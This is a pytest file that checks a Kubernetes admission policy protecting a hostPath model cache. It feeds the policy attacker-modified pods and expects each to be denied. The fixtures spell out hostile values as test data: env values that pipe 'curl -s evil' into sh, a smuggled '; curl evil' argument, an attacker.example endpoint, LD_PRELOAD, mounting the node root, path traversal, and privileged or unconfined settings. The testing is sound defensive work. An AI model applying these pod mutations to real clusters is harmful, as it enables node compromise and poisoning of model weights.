"""The host-path ValidatingAdmissionPolicy, evaluated as the API server would: its CEL (variables, then each
validation) run by tests/charts/admission_cel.py (cel-expr-python, checked against cel-python) against the pods the
platform renders and against pods an attacker in the namespace could create. Where Pod Security must be
``privileged`` (the NVMe cache is a hostPath), this policy is what keeps a pod creator from mounting the node, running
privileged, or writing the cache with a command of their own."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import cdk8s
import pytest

from hyperpod_inference_iac.charts import InferenceEndpointConfig, ModelDeployment, PortableDeployment, plan_workloads
from hyperpod_inference_iac.charts.inference_chart import parse_models
from hyperpod_inference_iac.charts.pod_security import HOST_PATH_POLICY, HOST_PATH_POLICY_LABEL
from hyperpod_inference_iac.charts.portable import PortableModelServerChart
from hyperpod_inference_iac.charts.render import namespace_objects
from hyperpod_inference_iac.foundation.validation import Problems
from tests.charts import admission_cel, samples

Pod = dict[str, Any]


def _plan(operator_models: bool = True) -> Any:
    problems = Problems()
    models = [ModelDeployment(model, path=path) for path, model in parse_models(samples.model_entries()[:1],
                                                                                 problems=problems)]
    plan = plan_workloads(samples.context(), models=models if operator_models else [],
                          portable=[PortableDeployment(samples.portable_server(), path="portable[0]")],
                          problems=problems)
    problems.raise_if_any()
    return plan


def _objects(plan: Any) -> dict[tuple[str, str], dict[str, Any]]:
    return {(o["kind"], o["metadata"]["name"]): o for o in namespace_objects(plan)}


class Policy:
    """The policy's CEL (compiled once per process, tests/charts/admission_cel.py): ``failures(pod)`` are the messages
    of the validations the pod fails."""

    prefix = HOST_PATH_POLICY

    def __init__(self, policy: dict[str, Any]) -> None:
        self.text = admission_cel.PolicyText.of(policy)
        self.messages = [v["message"] for v in policy["spec"]["validations"]]

    def outcome(self, pod: Pod, namespace: str = samples.NAMESPACE) -> admission_cel.Outcome:
        """As the API server evaluates a pod created in ``namespace`` (``request.namespace``); every pod it admits has
        ``metadata``."""
        return admission_cel.evaluate(self.text, {"metadata": {}, **pod}, {"namespace": namespace,
                                                                            "operation": "CREATE"})

    def failures(self, pod: Pod, namespace: str = samples.NAMESPACE) -> list[str]:
        outcome = self.outcome(pod, namespace)
        assert all(c is True or c is False for c in outcome.conditions), outcome.conditions  # no error either
        if not outcome.matched:
            return []
        failed = []
        for message, result in zip(self.messages, outcome.validations, strict=True):
            assert result is True or result is False, f"{message}: {result!r}"  # never an evaluation error
            if not result:
                failed.append(message.removeprefix(f"{self.prefix}: "))
        return failed


@pytest.fixture(scope="module")
def plan() -> Any:
    return _plan()


@pytest.fixture(scope="module")
def policy(plan: Any) -> Policy:
    return Policy(_objects(plan)[("ValidatingAdmissionPolicy", HOST_PATH_POLICY)])


@pytest.fixture(scope="module")
def portable_pod(plan: Any) -> Pod:
    app = cdk8s.Testing.app()
    chart = PortableModelServerChart(app, "p", workload=plan.portable[0], namespace=samples.NAMESPACE,
                                     values=samples.VALUES)
    (deployment,) = [m for m in cdk8s.Testing.synth(chart) if m["kind"] == "Deployment"]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": samples.NAMESPACE},
            "spec": deployment["spec"]["template"]["spec"]}


@pytest.fixture(scope="module")
def operator_pod(plan: Any) -> Pod:
    """A pod as the operator would make it for the NVMe model: its worker mounting the cache read-only, our loader."""
    model = plan.models[0].workload
    assert isinstance(model, InferenceEndpointConfig)
    kubernetes = model.manifest(namespace=samples.NAMESPACE)["spec"]["kubernetes"]
    worker = {"name": "worker", "image": "vllm/vllm-openai:v0.11.0",
              "volumeMounts": [{"name": "model-weights", "mountPath": "/opt/ml/model", "readOnly": True}]}
    return {"spec": {"serviceAccountName": kubernetes["serviceAccountName"], "containers": [worker],
                     "initContainers": kubernetes["initContainers"], "volumes": kubernetes["volumes"]}}


def test_the_platform_s_own_pods_pass(policy: Policy, portable_pod: Pod, operator_pod: Pod) -> None:
    assert policy.failures(portable_pod) == []
    assert policy.failures(operator_pod) == []
    assert policy.failures({"spec": {"containers": [{"name": "debug", "image": "busybox:1.37"}]}}) == []


def _container(pod: Pod, name: str) -> dict[str, Any]:
    return next(c for c in [*pod["spec"]["containers"], *pod["spec"].get("initContainers", [])] if c["name"] == name)


def _writable_in_server(pod: Pod) -> None:
    for mount in _container(pod, "model-server")["volumeMounts"]:
        if mount["name"] == "model-weights":
            mount["readOnly"] = False


def _loader_runs_own_command(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["command"] = ["/bin/bash", "-c", "echo poisoned > /nvme-model/config.json"]


def _loader_extra_args(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["args"] = ["; curl evil"]


def _loader_other_image(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["image"] = "public.ecr.aws/aws-cli/aws-cli:2.99.0"


def _loader_named_by_an_impostor(pod: Pod) -> None:
    impostor = copy.deepcopy(_container(pod, "nvme-weights-loader"))
    impostor["name"] = "helper"
    pod["spec"]["initContainers"].append(impostor)


def _mount_the_node(pod: Pod) -> None:
    pod["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})
    _container(pod, "model-server")["volumeMounts"].append({"name": "root", "mountPath": "/host", "readOnly": True})


def _cache_path_with_dots(pod: Pod) -> None:
    for volume in pod["spec"]["volumes"]:
        if "hostPath" in volume:
            volume["hostPath"]["path"] += "/../../../etc"


def _privileged(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["privileged"] = True


def _host_network(pod: Pod) -> None:
    pod["spec"]["hostNetwork"] = True


def _host_pid(pod: Pod) -> None:
    pod["spec"]["hostPID"] = True


def _sys_admin(pod: Pod) -> None:
    _container(pod, "capture-sidecar")["securityContext"]["capabilities"] = {"add": ["SYS_ADMIN"]}


def _host_port(pod: Pod) -> None:
    _container(pod, "model-server")["ports"].append({"containerPort": 22, "hostPort": 22})


def _unconfined(pod: Pod) -> None:
    pod["spec"]["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


def _unmasked_proc(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["procMount"] = "Unmasked"


def _unsafe_sysctl(pod: Pod) -> None:
    pod["spec"]["securityContext"]["sysctls"] = [{"name": "kernel.core_pattern", "value": "|/tmp/x"}]


def _debug_container_writes_cache(pod: Pod) -> None:
    pod["spec"]["ephemeralContainers"] = [{"name": "debug", "image": "busybox:1.37",
                                           "volumeMounts": [{"name": "model-weights", "mountPath": "/w"}]}]


def _loader_env(name: str, value: str) -> Callable[[Pod], None]:
    def attack(pod: Pod) -> None:
        _container(pod, "nvme-weights-loader")["env"].append({"name": name, "value": value})
    attack.__name__ = f"loader_env_{name}"
    return attack


def _loader_source_elsewhere(pod: Pod) -> None:
    for item in _container(pod, "nvme-weights-loader")["env"]:
        if item["name"] == "MODEL_SOURCE_S3_URI":
            item["value"] = "s3://attacker-bucket/qwen3-8b/"


def _loader_env_from(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["envFrom"] = [{"configMapRef": {"name": "attacker"}}]


def _loader_stdin(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader").update(stdin=True, stdinOnce=True, tty=True)


def _loader_extra_mount(pod: Pod) -> None:
    pod["spec"]["volumes"].append({"name": "drop", "emptyDir": {}})
    _container(pod, "nvme-weights-loader")["volumeMounts"].append({"name": "drop", "mountPath": "/usr/local/bin"})


def _loader_other_service_account(pod: Pod) -> None:
    pod["spec"]["serviceAccountName"] = "default"


def _loader_as_native_sidecar(pod: Pod) -> None:
    _container(pod, "nvme-weights-loader")["restartPolicy"] = "Always"  # runs beside the others, an exec target


def _loader_as_regular_container(pod: Pod) -> None:
    loader = copy.deepcopy(_container(pod, "nvme-weights-loader"))
    loader["name"] = "nvme-weights-loader"
    pod["spec"]["containers"].append(loader)


def _loader_shares_its_processes(pod: Pod) -> None:
    pod["spec"]["shareProcessNamespace"] = True  # another container could reach the cache through /proc/<pid>/root


def _loader_writes_another_workload_s_cache(pod: Pod) -> None:
    """The portable loader pointed at the operator model's cache path (planned in the same namespace)."""
    for volume in pod["spec"]["volumes"]:
        if "hostPath" in volume:
            volume["hostPath"]["path"] = "/opt/dlami/nvme/qwen3-8b"


def _debug_container_joins_the_loader(pod: Pod) -> None:
    pod["spec"]["ephemeralContainers"] = [{"name": "debug", "image": "busybox:1.37",
                                           "targetContainerName": "nvme-weights-loader"}]


def _apparmor_unconfined_pod(pod: Pod) -> None:
    pod["spec"]["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}


def _apparmor_unconfined_container(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}


def _apparmor_annotation(pod: Pod) -> None:
    pod["metadata"] = {"annotations": {"container.apparmor.security.beta.kubernetes.io/model-server": "unconfined"}}


def _selinux_spc_t(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def _selinux_user(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["seLinuxOptions"] = {"user": "system_u"}


def _selinux_role_on_the_pod(pod: Pod) -> None:
    pod["spec"]["securityContext"]["seLinuxOptions"] = {"role": "system_r"}


def _windows_host_process(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["windowsOptions"] = {"hostProcess": True}


def _windows_host_process_pod(pod: Pod) -> None:
    pod["spec"]["securityContext"]["windowsOptions"] = {"hostProcess": True}


def _probe_to_another_host(pod: Pod) -> None:
    _container(pod, "model-server")["readinessProbe"]["httpGet"]["host"] = "169.254.169.254"


def _seccomp_other_type(pod: Pod) -> None:
    _container(pod, "model-server")["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


READ_ONLY = "a model cache is mounted read-only"


@pytest.mark.parametrize(("attack", "failure"), [
    (_writable_in_server, READ_ONLY),
    (_loader_runs_own_command, READ_ONLY),
    (_loader_extra_args, READ_ONLY),
    (_loader_other_image, READ_ONLY),
    (_loader_named_by_an_impostor, READ_ONLY),
    (_debug_container_writes_cache, READ_ONLY),
    (_loader_env("BASH_ENV", "$(curl -s evil | sh)"), READ_ONLY),
    (_loader_env("BASH_FUNC_cd%%", "() { curl -s evil | sh; }"), READ_ONLY),
    (_loader_env("AWS_ENDPOINT_URL", "https://attacker.example"), READ_ONLY),
    (_loader_env("LD_PRELOAD", "/tmp/x.so"), READ_ONLY),
    (_loader_source_elsewhere, READ_ONLY),
    (_loader_env_from, READ_ONLY),
    (_loader_stdin, READ_ONLY),
    (_loader_extra_mount, READ_ONLY),
    (_loader_other_service_account, READ_ONLY),
    (_loader_as_native_sidecar, READ_ONLY),
    (_loader_as_regular_container, READ_ONLY),
    (_loader_shares_its_processes, READ_ONLY),
    (_loader_writes_another_workload_s_cache, READ_ONLY),
    (_debug_container_joins_the_loader, "no debug container joins the loader's processes"),
    (_mount_the_node, "host paths are the planned model caches of the namespace only"),
    (_cache_path_with_dots, ("host paths are the planned model caches of the namespace only", READ_ONLY)),
    (_privileged, "no privileged container"),
    (_host_network, "no host network, PID or IPC namespace"),
    (_host_pid, "no host network, PID or IPC namespace"),
    (_sys_admin, "no capability beyond baseline's"),
    (_host_port, "no host port"),
    (_unconfined, "seccomp profile RuntimeDefault or Localhost only, pod"),
    (_seccomp_other_type, "seccomp profile RuntimeDefault or Localhost only, containers"),
    (_unmasked_proc, "the default /proc mount only"),
    (_unsafe_sysctl, "safe sysctls only"),
    (_apparmor_unconfined_pod, "AppArmor profile RuntimeDefault or Localhost only, pod"),
    (_apparmor_unconfined_container, "AppArmor profile RuntimeDefault or Localhost only, containers"),
    (_apparmor_annotation, "no AppArmor annotation"),
    (_selinux_spc_t, "SELinux type"),
    (_selinux_user, "SELinux type"),
    (_selinux_role_on_the_pod, "SELinux type"),
    (_windows_host_process, "no Windows HostProcess, containers"),
    (_windows_host_process_pod, "no Windows HostProcess, pod"),
    (_probe_to_another_host, "no probe or lifecycle handler with a host"),
], ids=lambda value: value.__name__.strip("_") if callable(value) else None)
def test_what_a_pod_creator_in_the_namespace_cannot_do(policy: Policy, portable_pod: Pod,
                                                      attack: Callable[[Pod], None],
                                                      failure: str | tuple[str, ...]) -> None:
    pod = copy.deepcopy(portable_pod)
    attack(pod)
    failed = policy.failures(pod)
    expected = failure if isinstance(failure, tuple) else (failure,)
    assert len(failed) == len(expected) and all(f.startswith(e) for f, e in zip(failed, expected, strict=True)), failed


def test_a_loader_and_its_cache_belong_to_their_namespace(policy: Policy, portable_pod: Pod) -> None:
    """The same pod in another namespace (whose creator may not write this one's caches): neither the path nor the
    writer is planned there."""
    failed = policy.failures(portable_pod, namespace="tenant-b")
    assert [f.split(" (")[0] for f in failed] == ["host paths are the planned model caches of the namespace only",
                                                  "a model cache is mounted read-only, except by its planned loader"]


def test_the_policy_denies_wherever_a_cache_is_mounted_also_where_the_operator_makes_pods() -> None:
    """Warn-only where the operator makes pods left a Pod Security ``privileged`` namespace to any pod creator
    (``hostPath: /``, privileged): the policy denies in every namespace that mounts a cache."""
    shared = _objects(_plan(operator_models=True))
    portable_only = _objects(_plan(operator_models=False))
    label = HOST_PATH_POLICY_LABEL
    assert shared[("Namespace", samples.NAMESPACE)]["metadata"]["labels"][label] == "deny"
    assert portable_only[("Namespace", samples.NAMESPACE)]["metadata"]["labels"][label] == "deny"
    deny = shared[("ValidatingAdmissionPolicyBinding", f"{HOST_PATH_POLICY}-deny")]["spec"]
    assert deny == {"policyName": HOST_PATH_POLICY, "validationActions": ["Deny"],
                    "matchResources": {"namespaceSelector": {"matchLabels": {label: "deny"}}}}
    assert shared[("ValidatingAdmissionPolicy", HOST_PATH_POLICY)]["spec"]["failurePolicy"] == "Fail"
    privileged = [o for o in shared.values() if o["kind"] == "Namespace"
                  and o["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "privileged"]
    assert privileged and all(o["metadata"]["labels"][label] == "deny" for o in privileged)


def test_a_namespace_without_caches_is_baseline_and_has_no_host_path_policy() -> None:
    entries = [e for e in samples.model_entries() if "nvmeCache" not in e
               and e["spec"].get("modelSourceConfig", {}).get("modelSourceType") == "huggingface"][:1]
    assert entries
    problems = Problems()
    models = [ModelDeployment(m, path=p) for p, m in parse_models(entries, problems=problems)]
    plan = plan_workloads(samples.context(), models=models, problems=problems)
    problems.raise_if_any()
    objects = _objects(plan)
    labels = objects[("Namespace", samples.NAMESPACE)]["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "baseline"
    assert HOST_PATH_POLICY_LABEL not in labels
    assert not any(kind.startswith("ValidatingAdmission") for kind, _ in objects)
